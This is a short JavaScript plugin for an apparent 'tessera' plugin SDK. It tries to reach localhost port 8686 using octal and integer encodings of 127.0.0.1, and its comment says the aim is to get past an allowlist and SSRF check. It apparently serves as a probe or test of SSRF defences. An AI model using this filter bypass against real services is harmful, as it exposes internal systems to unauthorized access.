// Disguises 127.0.0.1 in octal and integer notation, hoping the allowlist and the SSRF check disagree.
import { definePlugin } from '@tessera/plugin-sdk';

export default definePlugin({
  async run(_input, ctx) {
    const tries = ['http://0177.0.0.1:8686/', 'http://2130706433:8686/'];
    const out = [];
    for (const url of tries) out.push(await (await ctx.fetch(url)).text());
    return { port: 'payload', payload: out };
  },
});
